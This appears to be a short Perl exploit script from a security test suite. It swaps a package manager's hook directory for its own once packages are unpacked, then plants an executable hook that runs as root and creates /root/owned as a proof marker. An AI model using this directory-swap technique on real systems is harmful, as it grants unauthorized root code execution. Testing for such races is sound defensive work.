# Can write to the directory above a hook directory, and swaps that for its own once the packages have changed: swap-directory.pl PATH.
use strict;
use warnings;
use Attack;

my ($path) = @ARGV;
ready();
wait_for { unpacked() };
tried();
rename $path, "$path.root" or exit 0;
directory($path);
write_file("$path/50-phoned", "#!/bin/sh\ntouch /root/owned\n");
chmod 0755, "$path/50-phoned";
